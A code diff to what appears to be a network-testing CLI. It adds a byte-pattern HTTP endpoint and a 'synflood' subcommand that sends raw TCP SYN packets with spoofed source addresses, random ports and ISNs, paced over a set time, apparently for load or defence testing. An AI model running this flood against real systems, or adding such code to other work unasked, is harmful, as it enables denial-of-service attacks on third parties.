@@ -117,6 +117,11 @@ def cmd_serve(args):
         protocol_version = "HTTP/1.0"
 
         def do_GET(self):  # noqa: N802 (http.server's naming)
+            if self.path.startswith("/bytes/") and self.path[7:].isdigit():
+                # N bytes of a fixed pattern, for transfers checked by digest.
+                n = min(int(self.path[7:]), 64 << 20)
+                self.answer(bytes((i * 7) & 0xFF for i in range(n)))
+                return
             if args.health_path and self.path == args.health_path:
                 status = health_status()
                 self.answer(f"{name} health {status}\n".encode(), status, "health")
@@ -448,6 +453,56 @@ def cmd_stream(args):
     return 1 if failed else 0
 
 
+def cmd_synflood(args):
+    """Spoofed SYNs to ADDR:PORT through a raw socket: `count` of them, sources drawn
+    from `net` (a /N), random ports and ISNs, paced over `seconds`. Prints the count
+    sent and the time taken as JSON."""
+    import ipaddress
+    import random
+    import struct
+    net = ipaddress.ip_network(args.net)
+    base, size = int(net.network_address), net.num_addresses
+    dst = socket.inet_aton(args.addr)
+    rng = random.Random(args.seed)
+    sock = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW)
+    sock.setsockopt(socket.SOL_SOCKET, socket.SO_SNDBUF, 4 << 20)
+
+    def csum(data):
+        total = sum(struct.unpack(f"!{len(data) // 2}H", data))
+        while total >> 16:
+            total = (total & 0xFFFF) + (total >> 16)
+        return ~total & 0xFFFF
+
+    sent, start = 0, time.time()
+    per_ms = max(1, args.count // max(1, int(args.seconds * 1000)))
+    while sent < args.count:
+        for _ in range(min(per_ms, args.count - sent)):
+            src = struct.pack("!I", base + rng.randrange(1, size - 1))
+            sport, isn = rng.randrange(1024, 65536), rng.getrandbits(32)
+            # MSS 1460, SACK permitted, timestamps, NOP, window scale 7: as Linux.
+            opts = struct.pack("!BBHBBBBIIBBBB", 2, 4, 1460, 4, 2, 8, 10, isn, 0, 1, 3, 3, 7)
+            tcp = struct.pack("!HHIIBBHHH", sport, args.port, isn, 0, (40 // 4) << 4, 0x02,
+                              64240, 0, 0) + opts
+            pseudo = src + dst + struct.pack("!BBH", 0, 6, len(tcp))
+            tcp = tcp[:16] + struct.pack("!H", csum(pseudo + tcp)) + tcp[18:]
+            ip = struct.pack("!BBHHHBBH4s4s", 0x45, 0, 20 + len(tcp), 0, 0x4000, 64, 6, 0,
+                             src, dst)
+            try:
+                sock.sendto(ip + tcp, (args.addr, 0))
+                sent += 1
+            except BlockingIOError:
+                time.sleep(0.0005)
+            except OSError as e:
+                if e.errno != 105:  # ENOBUFS: the qdisc is full, try again
+                    raise
+                time.sleep(0.0005)
+        ahead = start + sent / args.count * args.seconds - time.time()
+        if ahead > 0:
+            time.sleep(ahead)
+    print(json.dumps({"sent": sent, "seconds": round(time.time() - start, 3)}))
+    return 0
+
+
 def cmd_ask(args):
     if args.rounds * len(args.source) > 1000:
         print("ask: at most 1000 connections", file=sys.stderr)
@@ -512,6 +567,13 @@ def main():
     st.add_argument("--stop")
     st.add_argument("--source")
     st.add_argument("--pool", type=int, default=32)
+    f = sub.add_parser("synflood")
+    f.add_argument("addr")
+    f.add_argument("port", type=int)
+    f.add_argument("--count", type=int, required=True)
+    f.add_argument("--net", required=True)
+    f.add_argument("--seconds", type=float, default=4.0)
+    f.add_argument("--seed", type=int, default=1)
     a = sub.add_parser("ask")
     a.add_argument("addr")
     a.add_argument("port", type=int)
@@ -520,7 +582,8 @@ def main():
     a.add_argument("--timeout", type=float, default=2.0)
     args = p.parse_args()
     return {"serve": cmd_serve, "curl": cmd_curl, "udp": cmd_udp, "decap": cmd_decap,
-            "stream": cmd_stream, "ask": cmd_ask}[args.cmd](args)
+            "stream": cmd_stream, "ask": cmd_ask,
+            "synflood": cmd_synflood}[args.cmd](args)
 
 
 if __name__ == "__main__":
